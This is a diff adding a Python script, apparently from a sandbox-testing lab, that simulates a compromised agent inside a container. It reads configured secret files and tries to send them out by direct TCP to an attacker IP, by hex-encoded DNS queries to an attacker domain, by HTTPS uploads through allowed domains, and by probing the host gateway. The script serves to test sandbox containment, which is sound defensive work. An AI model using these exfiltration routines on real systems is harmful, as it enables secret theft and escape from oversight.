@@ -1,0 +1,205 @@
+"""The compromised agent: runs every probe inside the sandbox and prints what it tried, one JSON line each.
+
+Runs inside the sandbox image as the unprivileged user (Python 3 standard
+library only). It is NOT trusted to judge anything: the grader decides every
+verdict from evidence outside the sandbox (canaries at the sink, in the DNS
+log, in the container's output; the world copy before and after). What this
+script prints only proves that an attempt was made, and carries file contents
+out so a read can be proven by its per-run canary.
+
+It reads its orders from /opt/sandbox-lab/run/config.json (written by the
+grader, mounted read-only); it is never told the canaries.
+"""
+
+import binascii
+import json
+import os
+import socket
+import ssl
+import sys
+import threading
+import urllib.error
+import urllib.request
+from concurrent.futures import ThreadPoolExecutor
+
+CONFIG = "/opt/sandbox-lab/run/config.json"
+READ_LIMIT = 4096
+_lock = threading.Lock()
+
+
+def emit(probe, step, ok, detail="", data=None, target=None):
+    rec = {"probe": probe, "step": step, "ok": bool(ok), "detail": str(detail)[:300]}
+    if target is not None:
+        rec["target"] = target
+    if data is not None:
+        rec["data"] = data
+    line = json.dumps(rec)
+    with _lock:
+        sys.stdout.write(line + "\n")
+        sys.stdout.flush()
+
+
+def err(exc):
+    name = type(exc).__name__
+    code = getattr(exc, "errno", None)
+    return f"{name}({code}): {exc}" if code else f"{name}: {exc}"
+
+
+class Agent:
+    def __init__(self, cfg):
+        self.cfg = cfg
+        self.token = cfg["token"]
+        self.proxy = cfg.get("proxy")
+        self.timeout = float(cfg.get("timeout", 3.0))
+        ctx = ssl.create_default_context()
+        ca = cfg.get("ca_file")
+        if ca and os.path.exists(ca):
+            ctx.load_verify_locations(ca)
+        self.ssl = ctx
+        handlers = [urllib.request.HTTPSHandler(context=ctx)]
+        if self.proxy:
+            handlers.append(urllib.request.ProxyHandler({"http": self.proxy, "https": self.proxy}))
+        else:
+            handlers.append(urllib.request.ProxyHandler({}))
+        self.opener = urllib.request.build_opener(*handlers)
+
+    # --- primitives ---------------------------------------------------------------------
+
+    def read(self, probe, path):
+        try:
+            with open(path, "rb") as fh:
+                data = fh.read(READ_LIMIT)
+            emit(probe, "read", True, f"read {len(data)} bytes", data.decode("utf-8", "replace"), path)
+            return data
+        except OSError as exc:
+            emit(probe, "read", False, err(exc), target=path)
+            return None
+
+    def write(self, probe, path, text, append):
+        try:
+            with open(path, "a" if append else "w") as fh:
+                fh.write(text)
+            emit(probe, "write", True, f"wrote {len(text)} bytes", target=path)
+        except OSError as exc:
+            emit(probe, "write", False, err(exc), target=path)
+
+    def http(self, probe, method, url, body=None):
+        req = urllib.request.Request(url, data=body, method=method, headers={"X-Sandbox-Lab": self.token})
+        try:
+            with self.opener.open(req, timeout=self.timeout) as resp:
+                text = resp.read(2048).decode("utf-8", "replace")
+            emit(probe, "http", True, f"{method} {url}: {resp.status}", text[:300], url)
+            return True
+        except urllib.error.HTTPError as exc:
+            emit(probe, "http", False, f"{method} {url}: HTTP {exc.code}", target=url)
+            exc.close()
+        except Exception as exc:  # noqa: BLE001 - every failure is a recorded attempt
+            emit(probe, "http", False, f"{method} {url}: {err(exc)}", target=url)
+        return False
+
+    def tcp(self, probe, host, port, payload):
+        try:
+            with socket.create_connection((host, port), timeout=self.timeout) as s:
+                s.sendall(payload)
+                s.shutdown(socket.SHUT_WR)
+                reply = s.recv(256).decode("utf-8", "replace")
+            emit(probe, "tcp", True, f"{host}:{port} answered", reply[:200], f"{host}:{port}")
+        except OSError as exc:
+            emit(probe, "tcp", False, f"{host}:{port}: {err(exc)}", target=f"{host}:{port}")
+
+    def dns(self, probe, name):
+        try:
+            addrs = socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)
+            emit(probe, "dns", True, f"{name} -> {addrs[0][4][0]}", target=name)
+        except OSError as exc:
+            emit(probe, "dns", False, f"{name}: {err(exc)}", target=name)
+
+    # --- channels ----------------------------------------------------------------------
+
+    def send_everywhere(self, probe, label, payload):
+        """Every way out a real attacker would try, for one piece of data."""
+        attacker = self.cfg["attacker_host"]
+        data = payload if isinstance(payload, bytes) else payload.encode()
+        tag = f"{self.token}.{label}"
+        jobs = []
+        ip = self.cfg.get("attacker_ip")
+        if ip:
+            jobs.append(lambda: self.tcp(probe, ip, self.cfg["tcp_port"], tag.encode() + b"\n" + data))
+        hexdata = binascii.hexlify(data).decode()
+        chunks = [hexdata[i:i + 60] for i in range(0, len(hexdata), 60)][:12]
+        for i, chunk in enumerate(chunks):
+            name = f"{chunk}.{i}.{label}.{self.token}.{attacker}"
+            jobs.append(lambda n=name: self.dns(probe, n))
+        for host in self.cfg["hosts"] + [f"{self.token}{label.replace('-', '')}.{attacker}"]:
+            jobs.append(lambda h=host: self.http(probe, "POST", f"https://{h}/upload/{tag}", data))
+        with ThreadPoolExecutor(max_workers=8) as pool:
+            list(pool.map(lambda f: f(), jobs))
+
+    # --- probes --------------------------------------------------------------------------
+
+    def run(self, spec):
+        pid, action = spec["id"], spec["action"]
+        if action == "read":
+            self.read(pid, spec["target"])
+        elif action == "write":
+            text = f"\n# sandbox-lab-write {self.token} {pid}\n"
+            self.write(pid, spec["target"], text, append=spec["kind"] == "attack")
+        elif action == "fetch":
+            for host in spec["hosts"]:
+                self.http(pid, "GET", f"https://{host}/fetch/{self.token}")
+        elif pid == "net-direct-ip":
+            ip = self.cfg.get("attacker_ip") or self.cfg["unreachable_ip"]
+            self.tcp(pid, ip, self.cfg["tcp_port"], f"{self.token}.direct\n".encode())
+        elif pid == "net-dns-exfil":
+            self.dns(pid, f"{self.token}dns.{self.cfg['attacker_host']}")
+            # and through the proxy, which looks names up for whoever it lets through
+            self.http(pid, "GET", f"http://{self.token}dnsvia.{self.cfg['attacker_host']}/")
+        elif pid == "net-attacker-domain":
+            self.http(pid, "GET", f"http://{self.cfg['attacker_host']}/ping/{self.token}")
+        elif pid == "net-host-gateway":
+            for host in gateways() + self.cfg.get("gateway_names", []):
+                self.tcp(pid, host, self.cfg["host_port"], f"{self.token}.host\n".encode())
+        elif pid == "exfil-via-allowed-domain":
+            for host in self.cfg["hosts"] + [f"{self.token}up.{self.cfg['attacker_host']}"]:
+                self.http(pid, "POST", f"https://{host}/upload/{self.token}", f"upload {self.token}".encode())
+        elif pid == "exfil-secret":
+            for i, path in enumerate(self.cfg["secret_paths"]):
+                data = self.read(pid, path)
+                if data:
+                    self.send_everywhere(pid, f"s{i}", data.strip()[:200])
+        else:
+            emit(pid, "unknown", False, "no such probe in this runner")
+        emit(pid, "done", True)
+
+
+def gateways():
+    """Default gateways from the routing table: where the host usually answers."""
+    out = []
+    try:
+        with open("/proc/net/route") as fh:
+            for line in fh.readlines()[1:]:
+                f = line.split()
+                if len(f) > 2 and f[1] == "00000000" and f[2] != "00000000":
+                    out.append(socket.inet_ntoa(bytes.fromhex(f[2])[::-1]))
+    except OSError:
+        pass
+    return out + ["172.17.0.1"]
+
+
+def main():
+    with open(CONFIG) as fh:
+        cfg = json.load(fh)
+    agent = Agent(cfg)
+    emit("runner", "start", True, f"uid={os.getuid()}")
+    with ThreadPoolExecutor(max_workers=int(cfg.get("parallel", 8))) as pool:
+        futures = [pool.submit(agent.run, spec) for spec in cfg["probes"]]
+        for f in futures:
+            try:
+                f.result()
+            except Exception as exc:  # noqa: BLE001
+                emit("runner", "crash", False, err(exc))
+    emit("runner", "end", True)
+
+
+if __name__ == "__main__":
+    main()
